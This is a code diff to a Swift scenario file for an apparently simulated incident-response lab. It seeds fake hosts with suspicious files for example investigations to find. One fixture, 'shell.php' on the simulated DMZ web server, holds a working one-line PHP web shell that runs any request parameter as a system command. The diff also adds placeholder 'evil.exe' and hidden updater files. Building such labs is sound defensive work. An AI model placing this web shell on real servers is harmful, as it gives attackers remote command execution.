@@ -78,9 +78,16 @@ extension Scenario {
       FileSpec(path: "/etc/passwd", text: "root:x:0:0:root:/root:/bin/bash\n"),
       FileSpec(path: "/var/log/syslog", size: 3 * 1_048_576, seed: 11),
     ]
+    // The files the examples fetch (examples/hash-then-fetch.lr, linux-fleet.lr,
+    // mac-investigation.lr), so each investigation succeeds in the lab.
     add(
       "ws-0142.contoso.com", "Windows11", "23H2", build: 22631, tags: ["Finance"],
-      risk: "Medium", latency: 4, ip: "10.1.4.142", files: windowsFiles)
+      risk: "Medium", latency: 4, ip: "10.1.4.142",
+      files: windowsFiles + [
+        FileSpec(
+          path: "C:\\Users\\Public\\evil.exe", size: 2 * 1_048_576, seed: 4711,
+          pattern: "random")
+      ])
     add(
       "ws-0143.contoso.com", "Windows11", "24H2", build: 26100, tags: ["Finance"],
       latency: 6, ip: "10.1.4.143", files: windowsFiles)
@@ -103,14 +110,22 @@ extension Scenario {
       groupId: 20, latency: 6, ip: "10.0.0.32", files: windowsFiles)
     add(
       "web-01.contoso.com", "Linux", "Ubuntu 22.04", build: 0, group: "Linux", groupId: 30,
-      tags: ["DMZ"], risk: "Medium", latency: 5, ip: "10.2.0.11", files: linuxFiles)
+      tags: ["DMZ"], risk: "Medium", latency: 5, ip: "10.2.0.11",
+      files: linuxFiles + [
+        FileSpec(
+          path: "/var/www/html/upload/shell.php",
+          text: "<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>\n")
+      ])
     add(
       "db-02.contoso.com", "Linux", "RHEL 9.4", build: 0, group: "Linux", groupId: 30,
       latency: 7, ip: "10.2.0.22", files: linuxFiles)
     add(
       "mac-design-01.contoso.com", "macOS", "14.5", build: 0, group: "Mac", groupId: 40,
       tags: ["Design"], latency: 6, ip: "10.1.9.31",
-      files: [FileSpec(path: "/etc/hosts", text: "127.0.0.1 localhost\n")])
+      files: [
+        FileSpec(path: "/etc/hosts", text: "127.0.0.1 localhost\n"),
+        FileSpec(path: "/Users/Shared/.updater/updater", size: 1_048_576, seed: 4720),
+      ])
     add(
       "laptop-travel-07.contoso.com", "Windows11", "23H2", build: 22631, tags: ["Travel"],
       health: "Inactive", online: OnlineSchedule(after: 180), latency: 5, ip: "192.168.1.77",
